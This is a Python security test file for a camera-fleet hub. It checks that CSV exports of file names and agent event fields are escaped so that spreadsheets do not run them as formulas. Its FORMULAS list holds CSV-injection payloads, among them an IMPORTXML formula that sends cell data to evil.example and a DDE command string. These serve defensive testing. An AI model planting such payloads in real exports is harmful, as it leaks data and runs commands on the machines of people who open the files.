"""CSV exports never hand a spreadsheet a formula that a low-privilege caller or an agent wrote.

A viewer's token (what an agent holds) may classify, and the upload's file name lands in the site's prediction
log; an agent's events carry a label, model version and frame id of its choosing. The site admin exports both as
CSV (Logs page, ``GET /events?format=csv``) and opens them in a spreadsheet, which runs a cell starting with
``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK(...)`` leaks the sheet, DDE runs commands). Every such
text cell must come out prefixed with ``'``; the same values stay intact in the JSON API.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from PIL import Image

from camfleet_contract.messages import Event, Prediction
from camfleet_hub.fleet.events import ValidEvent, site_ids, store_events
from tests.security.world import API, World, running_world

FORMULAS = ["=IMPORTXML(CONCAT('https://evil.example/?',A2),'//a')", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, mosquitto: Any, clothing_subset: Any) -> Iterator[World]:
    """Site A's model promoted, so a viewer's /classify reaches the model and is logged."""
    with running_world(tmp_path_factory.mktemp("csv"), mosquitto, clothing_subset, promote=True) as w:
        yield w


def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (120, 80, 40)).save(out, "JPEG")
    return out.getvalue()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(STARTS), f"a CSV cell a spreadsheet runs as a formula: {value!r} in {row}"


def test_prediction_log_csv_neutralises_a_viewers_file_names(world: World) -> None:
    site = world.sites["a"]
    files = [("files", (name, _jpeg(), "image/jpeg")) for name in FORMULAS]
    r = world.client("viewer_token").post(
        f"{API}/classify", data={"site": site.site, "classifier": site.clf}, files=files
    )
    assert r.status_code == 200, r.text

    r = world.client("site_admin_session").get(f"/ui/sites/{site.site}/logs.csv")
    assert r.status_code == 200, r.text
    rows = _cells(r.text)
    names = [row[rows[0].index("image_name")] for row in rows[1:]]
    assert sorted(names) == sorted("'" + n for n in FORMULAS)  # shown as the text it was, never run
    _assert_no_formula(rows)


def test_event_csv_neutralises_an_agents_texts(world: World) -> None:
    """What the ingest worker stores for an agent's event (``store_events``), exported by the site's admin."""
    site = world.sites["a"]
    sent = [
        Event(
            frame_id=formula,
            site=site.site,
            camera=site.camera,
            agent="agent1",
            classifier=site.clf,
            model_version=formula,
            label=formula,
            probability=0.5,
            predictions=[Prediction(label=formula, probability=0.5)],
            anomaly=False,
            anomaly_score=0.1,
            latency_ms=1.0,
            ts=datetime.now(UTC),
        )
        for formula in FORMULAS
    ]
    with world.services.sessions() as s:
        known = site_ids(s, {site.site})
        assert store_events(s, [ValidEvent(site.site, e) for e in sent], known) == len(sent)
        s.commit()

    admin = world.client("site_admin_session")
    r = admin.get(f"{API}/events", params={"site": site.site, "format": "csv"})
    assert r.status_code == 200, r.text
    rows = _cells(r.text)
    assert sorted(row[rows[0].index("label")] for row in rows[1:]) == sorted("'" + f for f in FORMULAS)
    _assert_no_formula(rows)
    # the JSON API returns the texts unchanged: only the spreadsheet export is neutralised
    labels = {e["label"] for e in admin.get(f"{API}/events", params={"site": site.site}).json()["items"]}
    assert labels == set(FORMULAS)
